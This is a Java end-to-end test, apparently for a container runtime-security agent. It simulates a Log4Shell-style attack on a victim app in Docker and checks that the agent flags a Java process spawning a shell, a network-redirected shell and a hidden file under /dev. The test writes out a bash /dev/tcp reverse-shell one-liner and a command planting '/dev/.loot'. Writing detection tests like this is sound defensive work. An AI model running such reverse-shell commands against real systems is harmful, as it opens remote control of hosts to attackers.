// SPDX-License-Identifier: Apache-2.0
// Copyright The Torimono Authors
package dev.torimono.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.torimono.e2e.fixture.AgentProcess;
import dev.torimono.e2e.fixture.AgentSetup;
import dev.torimono.e2e.fixture.AlertLine;
import dev.torimono.e2e.fixture.Attacker;
import dev.torimono.e2e.fixture.Container;
import dev.torimono.e2e.fixture.DockerDaemon;
import dev.torimono.e2e.fixture.NeedsDocker;
import dev.torimono.e2e.fixture.VictimApp;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;

/** A web application in Java is made to open a reverse shell: what Log4Shell looked like. */
@NeedsDocker
class ReverseShellScenario {
    private final DockerDaemon docker;

    ReverseShellScenario(DockerDaemon docker) {
        this.docker = docker;
    }

    @Test
    void everyStepIsToldWithALineageFromBashToJava() throws Exception {
        try (AgentProcess agent = new AgentSetup(docker, "reverse-shell").start();
                Attacker attacker = new Attacker();
                VictimApp app = new VictimApp(docker)) {
            String connection = "127.0.0.1/" + attacker.port();
            var response = app.exploit("bash -i >& /dev/tcp/" + connection + " 0>&1");
            attacker.command("echo loot > /dev/.loot\nexit\n");
            assertThat(response.get(20, TimeUnit.SECONDS).statusCode()).isEqualTo(200);

            Container container = app.container();
            AlertLine spawned = agent.alerts().await("Java process spawned a shell", container);
            AlertLine redirected =
                    agent.alerts()
                            .await(
                                    "Redirect STDOUT/STDIN to network connection in container",
                                    container);
            AlertLine hidden = agent.alerts().await("File created below /dev", container);

            assertThat(spawned.lineageNames()).startsWith("bash", "java");
            assertThat(spawned.field("proc.cmdline")).contains("/dev/tcp/" + connection);
            assertThat(redirected.field("fd.name"))
                    .contains("->127.0.0.1:" + attacker.port())
                    .startsWith("127.0.0.1:");
            assertThat(hidden.field("fd.name")).isEqualTo("/dev/.loot");
            for (AlertLine alert : List.of(spawned, redirected, hidden)) {
                lineageShowsBashBelowJava(alert, container);
                assertThat(alert.field("container.name")).isEqualTo(container.name());
            }
        }
    }

    private static void lineageShowsBashBelowJava(AlertLine alert, Container container) {
        List<String> inside =
                alert.lineage().stream()
                        .filter(process -> process.container().equals(container.id()))
                        .map(AlertLine.Relative::name)
                        .toList();
        assertThat(inside).as(alert.rule()).startsWith("bash").endsWith("java");
        assertThat(inside.subList(0, inside.size() - 1)).as(alert.rule()).containsOnly("bash");
        assertThat(alert.lineageNames()).as(alert.rule()).contains("containerd-shim");
        assertThat(alert.lineage().getLast().pid()).as(alert.rule()).isEqualTo(1);
    }
}
